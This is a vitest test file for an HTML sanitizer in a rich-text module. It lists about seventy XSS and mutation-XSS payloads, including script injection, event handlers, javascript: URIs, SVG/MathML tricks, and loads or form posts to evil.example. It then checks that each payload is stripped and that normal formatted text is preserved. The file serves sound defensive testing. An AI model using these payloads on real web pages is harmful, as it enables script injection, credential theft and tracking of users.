import { describe, expect, test } from 'vitest';
import { cleanHtml, picturesIn, plainText, withPicturesAt } from '../rich-text.ts';
import { cleanInWorker } from './text-cleaner.ts';

const path = '2026/11/019a0000-0000-7000-8000-00000000000a';
const ours = `/base/file/get?path=${path}`;

/** Whatever a browser could run, load, send or be sent away by. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script x>alert(1)</script/>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  `<img src="${ours}" onerror="alert(1)" onload=alert(1)>`,
  `<img src="${ours}&quot; onerror=&quot;alert(1)">`,
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/base/file/get/../../../tenant/auth/logout?path=x">',
  '<img src="/tenant/auth/logout">',
  '<img src="/base/file/get?path=../../secret">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  `<img srcset="https://evil.example/a.png 1x" src="${ours}">`,
  `<img src="${ours}" style="background:url(https://evil.example/p)">`,
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/tenant/auth/logout">x</a>',
  '<a href="https://ok.example" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="text-align:center;position:fixed;width:100vw">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<p style="te\\78t-align:center;background:u\\72l(https://evil.example)">x</p>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p/onclick=alert(1)>x',
  '<p "onclick=alert(1)">x',
  '<p class="hidden" id="root" data-x="1" contenteditable>x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<table background="https://evil.example/x.png"><td background="https://evil.example/y.png">x',
  '<code><img src=x onerror=alert(1)></code>',
  '<p>unclosed <strong><a href="https://ok.example',
  '<<img src=x onerror=alert(1)>',
];

const tags =
  'p|h[1-4]|ul|ol|li|blockquote|pre|br|hr|strong|em|u|s|code|a|img|table|thead|tbody|tfoot|tr|th|td|caption|colgroup|col';
const text = '[^<>"]*';
const attribute = [
  `href="(?:https?://|mailto:)${text}" rel="noopener noreferrer nofollow" target="_blank"`,
  `src="/base/file/get\\?path=\\d{4}/\\d\\d/[0-9a-f-]{36}"`,
  `alt="${text}"`,
  '(?:width|height|colspan|rowspan|start)="\\d+"',
  'style="text-align:(?:left|right|center|justify)"',
].join('|');
/** A text that consists of nothing but what is allowed, letter by letter. */
const harmless = new RegExp(`^(?:[^<>]|</(?:${tags})>|<(?:${tags})(?: (?:${attribute}))* ?/?>)*$`);

describe('what could harm a reader', () => {
  test.each(attacks)('is taken out: %s', (attack) => {
    const cleaned = cleanHtml(attack);
    expect(cleaned).toMatch(harmless);
    expect(cleaned).not.toMatch(/evil\.example|javascript:/i);
    // What a browser makes of it and writes again is still the same: nothing comes to life at the second reading.
    expect(cleanHtml(cleaned)).toBe(cleaned);
  });

  test('is taken out in a thread of its own, and one that takes too long is given up', async () => {
    expect(await cleanInWorker('<p onclick="x()">好</p>')).toEqual({ clean: '<p>好</p>', stable: true });
    await expect(cleanInWorker('<p>a&b</p>'.repeat(40_000), 0)).rejects.toMatchObject({ code: 'TEXT_TOO_COMPLEX' });
    expect(await cleanInWorker('<p onclick="x()">又好</p>')).toEqual({ clean: '<p>又好</p>', stable: true });
  });

  test('is not shown where a row that came another way is nested without end', () => {
    expect(cleanHtml('<b>'.repeat(60_000))).toBe('');
  });
});

describe('what people write', () => {
  test.each([
    '<h1>标题</h1><p style="text-align:center">正文 <strong>粗</strong><em>斜</em><u>线</u><s>删</s></p>',
    '<ul><li>一</li></ul><ol start="3"><li>二</li></ol><blockquote><p>引</p></blockquote><pre><code>a &lt; b</code></pre>',
    '<table><thead><tr><th colspan="2">头</th></tr></thead><tbody><tr><td>1</td><td rowspan="2">2</td></tr></tbody></table>',
    `<p><img src="${ours}" alt="图" width="640" height="400" /></p><hr />`,
    '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">链接</a></p>',
  ])('stays as it is: %s', (html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  test('keeps its meaning where it is written in other words', () => {
    expect(cleanHtml('<div><b>粗</b> <i>斜</i></div>')).toBe('<p><strong>粗</strong> <em>斜</em></p>');
    expect(cleanHtml('<a href="mailto:a@b.example">信</a>')).toContain('href="mailto:a@b.example"');
    expect(cleanHtml(`<img src="${ours}&amp;thumb=1">`)).toBe(`<img src="${ours}" alt="" />`);
    expect(cleanHtml(`<img src="/base/file/get?path=${encodeURIComponent(path)}">`)).toContain(ours);
  });

  test('is given in plain words, and its pictures are known', () => {
    expect(plainText(cleanHtml('<p>一 &amp; 二</p><ul><li>三</li><li>&lt;四&gt;</li></ul>'))).toBe('一 & 二 三 <四>');
    const html = cleanHtml(`<p>图<img src="${ours}"></p>`);
    expect(picturesIn(html)).toEqual([path]);
    expect(withPicturesAt(html, (one) => `/open/v1/files?noticeId=1&path=${one}`)).toContain(
      `<img src="/open/v1/files?noticeId=1&amp;path=${path}"`,
    );
  });
});
